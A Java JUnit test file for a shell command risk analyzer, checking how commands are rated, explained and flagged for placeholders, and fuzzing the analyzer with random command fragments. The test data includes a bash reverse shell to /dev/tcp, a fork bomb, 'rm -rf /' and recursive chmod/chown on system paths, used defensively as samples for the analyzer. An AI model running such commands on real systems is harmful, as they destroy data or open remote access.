package dev.sigma.commands;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import java.util.Random;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CommandAnalyzerTest {

  private static CommandAnalysis analyze(String command) {
    return CommandAnalyzer.analyze(command, Shell.BASH);
  }

  @Test
  void reasons_pointAtTheWordsTheyAreAbout() {
    String command = "cd /tmp && sudo rm -rf \"build dir\" | cat";
    Reason reason = analyze(command).risk().reasons().getFirst();
    assertThat(reason.rule()).isEqualTo("deletes");
    assertThat(command.substring(reason.start(), reason.end())).isEqualTo("rm -rf \"build dir\"");
    assertThat(reason.text()).contains("\"build dir\"").endsWith(".");
    assertThat(analyze(command).effects()).contains("as root", "deletes \"build dir\"");
  }

  @Test
  void reasons_pointIntoQuotedScripts() {
    String command = "bash -c 'echo a; rm b'";
    Reason reason = analyze(command).risk().reasons().getFirst();
    assertThat(command.substring(reason.start(), reason.end())).isEqualTo("rm b");
  }

  @ParameterizedTest
  @ValueSource(strings = {"rm -rf /", "rm -rf ~", "rm -rf *", "rm -rf \"$DIR\"/", "rm -fr /etc/"})
  void wideDeletes_areSaidPlainly(String command) {
    assertThat(analyze(command).risk().reasons().getFirst().text())
        .containsAnyOf("everything in", "far more than meant");
  }

  @ParameterizedTest
  @CsvSource({
    "mkdir /tmp/x, CHANGES",
    "cp a b, CHANGES",
    "sed -i s/a/b/ f, CHANGES",
    "apt-get install -y nginx, CHANGES",
    "systemctl start nginx, CHANGES",
    "echo a >> log, CHANGES",
    "frobnicate --all, UNKNOWN",
    "./install.sh, UNKNOWN",
    "python3 script.py, UNKNOWN",
    "$EDITOR f, UNKNOWN",
    "LD_PRELOAD=./x.so ls, UNKNOWN",
    "ls (, UNKNOWN",
    "chmod -R 777 /srv, DESTRUCTIVE",
    "chown -R app /, DESTRUCTIVE",
    "bash -i >& /dev/tcp/10.0.0.1/44 0>&1, UNKNOWN",
    ":(){ :|:& };:, DESTRUCTIVE",
  })
  void level(String command, Risk.Level level) {
    CommandAnalysis analysis = analyze(command);
    assertThat(analysis.risk().level()).isEqualTo(level);
    assertThat(analysis.risk().reasons()).isNotEmpty();
    assertThat(analysis.needsConfirmation()).isTrue();
  }

  @Test
  void blank_isUnknown() {
    assertThat(analyze(" ").risk().level()).isEqualTo(Risk.Level.UNKNOWN);
    assertThat(analyze(" ").risk().reasons()).isNotEmpty();
  }

  @ParameterizedTest
  @CsvSource({
    "kubectl logs <pod-name>, pod-name, READ_ONLY",
    "cat path/to/file, path/to/file, READ_ONLY",
    "rm {{file}}, file, DESTRUCTIVE",
    "ssh username@host uptime, username, READ_ONLY",
    "docker logs container_name, container_name, READ_ONLY",
    "docker logs your-container, your-container, READ_ONLY",
  })
  void placeholders_areFoundAndDoNotHideTheRisk(String command, String name, Risk.Level level) {
    CommandAnalysis analysis = analyze(command);
    assertThat(analysis.placeholders()).extracting(Placeholder::name).contains(name);
    assertThat(analysis.risk().level()).isEqualTo(level);
    Placeholder first = analysis.placeholders().getFirst();
    assertThat(command.substring(first.start(), first.end())).contains(name);
  }

  @ParameterizedTest
  @ValueSource(strings = {"hostname", "sort <in >out", "cat file_1.txt", "ls /var/log"})
  void realNames_areNoPlaceholders(String command) {
    assertThat(analyze(command).placeholders()).isEmpty();
  }

  @Test
  void redirection_isNotTakenForAPlaceholder() {
    assertThat(analyze("sort <in> out").risk().reasons())
        .extracting(Reason::rule)
        .contains("overwrites");
  }

  /** 20,000 texts put together from pieces of the language, seeded. */
  @Test
  void hostileTexts_neverThrow() {
    hostileTexts(7, 20_000);
  }

  @Test
  @Tag("long")
  void manyHostileTexts_neverThrow() {
    hostileTexts(System.nanoTime(), 400_000);
  }

  private static void hostileTexts(long seed, int count) {
    String[] pieces = {
      "sudo ",
      "rm ",
      "-rf ",
      "sh -c '",
      "'",
      "\"",
      "$(",
      ")",
      "`",
      "| ",
      "; ",
      "&& ",
      "> ",
      "< ",
      "<<E\n",
      "\nE\n",
      "xargs ",
      "find . ",
      "-exec ",
      "\\; ",
      "git ",
      "push ",
      "-f ",
      "sed ",
      "'s/a/b/w x' ",
      "awk ",
      "'{system(\"x\")}' ",
      "{a,b} ",
      "{{",
      "}}",
      "<x> ",
      "curl ",
      "x ",
      "tar ",
      "xf ",
      "eval ",
      "$x ",
      "kubectl ",
      "exec ",
      "-- ",
      "docker ",
      "run ",
      "ssh ",
      "h ",
      "printf ",
      "%s ",
      "env ",
      "A=1 ",
      "[ ",
      "psql ",
      "-c ",
      "drop ",
      "\0",
      "é",
      "\uD83D\uDE00",
    };
    Random random = new Random(seed);
    for (int n = 0; n < count; n++) {
      StringBuilder text = new StringBuilder();
      for (int k = random.nextInt(30); k >= 0; k--) {
        text.append(pieces[random.nextInt(pieces.length)]);
      }
      String command = text.toString();
      assertThatCode(() -> checkRanges(command))
          .as("seed %d: %s", seed, command)
          .doesNotThrowAnyException();
    }
  }

  private static void checkRanges(String command) {
    for (Shell shell : Shell.values()) {
      CommandAnalysis analysis = CommandAnalyzer.analyze(command, shell);
      for (Reason reason : analysis.risk().reasons()) {
        String shown = command.substring(reason.start(), Math.min(reason.end(), command.length()));
        assertThat(shown).isNotNull();
      }
      assertThat(analysis.risk().reasons().isEmpty())
          .isEqualTo(analysis.risk().level() == Risk.Level.READ_ONLY);
    }
  }
}
